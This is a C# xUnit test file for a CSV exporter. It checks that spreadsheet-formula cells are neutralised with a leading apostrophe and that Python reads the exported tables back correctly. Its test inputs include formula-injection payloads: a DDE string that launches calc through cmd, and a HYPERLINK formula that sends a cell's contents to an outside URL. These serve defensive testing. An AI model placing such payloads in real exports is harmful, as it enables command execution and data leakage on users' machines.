using System.Diagnostics;
using System.Text;
using System.Text.Json;
using StaticPublication.Exporting;

namespace StaticPublication.Tests.Exporting;

public class CsvExportTests
{
    // The last argument of python3 -c: reads tables in base64, one a line, with Python's own reader and prints their rows as JSON.
    private const string PythonReader =
        "import base64,csv,io,json,sys;print(json.dumps([list(csv.reader(io.StringIO(base64.b64decode(line).decode('utf-8'),"
        + "newline=''))) for line in sys.stdin]))";

    [Theory, Trait("Check", "R44")]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1)")]
    [InlineData("=cmd|'/c calc'!A0")]
    [InlineData("=HYPERLINK(\"https://example.org?\"&A1,\"x\")")]
    [InlineData("\t=1")]
    [InlineData("\r=1")]
    [InlineData("＝1")]
    [InlineData("\0=1")]
    [InlineData("'déjà")]
    public void A_text_that_a_spreadsheet_would_run_is_neutral_and_can_be_undone(string text)
    {
        var neutral = CsvTable.Neutral(text);

        Assert.Equal("'" + text, neutral);
        Assert.Equal(text, neutral[0] == '\'' ? neutral[1..] : neutral);
    }

    [Theory, Trait("Check", "R44")]
    [InlineData("-12,5 dans un texte", "'-12,5 dans un texte")]
    [InlineData("Écologie = énergie", "Écologie = énergie")]
    [InlineData("", "")]
    public void Other_texts_stay_as_they_are(string text, string cell) => Assert.Equal(cell, CsvTable.Neutral(text));

    [Fact, Trait("Check", "R44")]
    public void A_number_below_zero_is_a_number()
    {
        Column<int>[] columns = [new("number", CellType.AsNumber, row => row), new("code", CellType.AsCode, row => $"{row},5")];

        Assert.Equal("number,code\r\n-12,\"-12,5\"\r\n", Encoding.UTF8.GetString(CsvTable.Bytes(columns, [-12])));
    }

    [Fact, Trait("Check", "R45")]
    public void Every_table_of_csv_spectrum_comes_back_from_another_reader()
    {
        var folder = SharedData.PathOf("csv-spectrum");
        var twins = Directory
            .GetFiles(folder, "*.json", SearchOption.AllDirectories)
            .Where(file => Path.GetFileName(file) != "package.json")
            .Order(StringComparer.Ordinal)
            .ToList();
        Assert.Equal(12, twins.Count);
        var tables = twins.Select(RowsOf).ToList();
        var read = ReadByPython([.. tables.Select(Table)]);
        Assert.All(tables.Zip(read), pair => Assert.Equal(pair.First, pair.Second.Select(row => row.Select(Undone).ToArray())));
    }

    [Fact, Trait("Check", "R45")]
    public void Python_reads_every_cell_of_the_documents()
    {
        using var sample = new SampleEdition(20, title: "=1+1; \"cité\", l'œuvre\nà la ligne 😀");
        var rows = ReadByPython(sample.Release.File("data/documents.csv"))[0];
        var title = Array.IndexOf(rows[0], "title");

        Assert.Equal(DocumentColumns.Flat.Select(column => column.Name), rows[0]);
        Assert.Equal(21, rows.Length);
        Assert.Equal(sample.Edition.Catalogue.Documents.Select(document => document.Title), rows.Skip(1).Select(row => Undone(row[title])));
        Assert.All(rows, row => Assert.Equal(rows[0].Length, row.Length));
    }

    [Fact, Trait("Check", "R45")]
    public void Tables_end_their_lines_with_CRLF_and_have_no_byte_order_mark()
    {
        using var sample = new SampleEdition(3);
        foreach (var file in Exports.Files(sample.Release).Where(file => file.Path.EndsWith(".csv", StringComparison.Ordinal)))
        {
            var text = Encoding.UTF8.GetString(file.Bytes());
            Assert.EndsWith("\r\n", text, StringComparison.Ordinal);
            Assert.True(char.IsAsciiLetterLower(text[0]), file.Path);
            Assert.All(text.Split("\r\n")[0].Split(','), column => Assert.Matches("^[a-z]+(_[a-z]+)*$", column));
        }
    }

    [Fact]
    public void A_list_has_the_rows_of_its_documents_newest_first()
    {
        using var sample = new SampleEdition(9);
        var read = ReadByPython(sample.Release.File("data/documents.csv"), sample.Release.File("ministeres/economie/documents.csv"));
        var (all, list) = (read[0], read[1]);

        Assert.InRange(list[0].Length, 20, 25);
        Assert.DoesNotContain("licence", list[0]);
        var columns = list[0].Select(column => Array.IndexOf(all[0], column)).ToArray();
        Assert.Equal(all[1..].Reverse().Select(row => columns.Select(column => row[column])), list[1..]);
        using var schema = JsonDocument.Parse(sample.Release.Text("data/schema/list.tableschema.json"));
        Assert.Equal(
            list[0],
            schema.RootElement.GetProperty("fields").EnumerateArray().Select(field => field.GetProperty("name").GetString())
        );
    }

    internal static string Undone(string cell) => cell.StartsWith('\'') ? cell[1..] : cell;

    private static byte[] Table(string[][] rows)
    {
        using var bytes = new MemoryStream();
        using (var table = new CsvTable(bytes))
        {
            foreach (var row in rows)
            {
                foreach (var cell in row)
                {
                    table.Text(cell);
                }

                table.EndRow();
            }
        }

        return bytes.ToArray();
    }

    private static string[][] RowsOf(string twin)
    {
        using var json = JsonDocument.Parse(File.ReadAllBytes(twin));
        var records = json.RootElement.ValueKind == JsonValueKind.Array ? json.RootElement.EnumerateArray().ToList() : [json.RootElement];
        var objects = records.Select(row => row.EnumerateObject().ToList()).ToList();
        return
        [
            [.. objects[0].Select(cell => cell.Name)],
            .. objects.Select(row => row.Select(cell => cell.Value.ToString()).ToArray()),
        ];
    }

    internal static string[][][] ReadByPython(params byte[][] tables)
    {
        Assert.SkipWhen(Python() is null, "python3 is not on this machine");
        using var python = Process.Start(
            new ProcessStartInfo(Python()!, ["-c", PythonReader]) { RedirectStandardInput = true, RedirectStandardOutput = true }
        )!;
        foreach (var table in tables)
        {
            python.StandardInput.WriteLine(Convert.ToBase64String(table));
        }

        python.StandardInput.Close();
        var rows = JsonSerializer.Deserialize<string[][][]>(python.StandardOutput.BaseStream)!;
        python.WaitForExit();
        return rows;
    }

    private static string? Python() =>
        (Environment.GetEnvironmentVariable("PATH") ?? "")
            .Split(Path.PathSeparator)
            .Select(folder => Path.Combine(folder, "python3"))
            .FirstOrDefault(File.Exists);
}
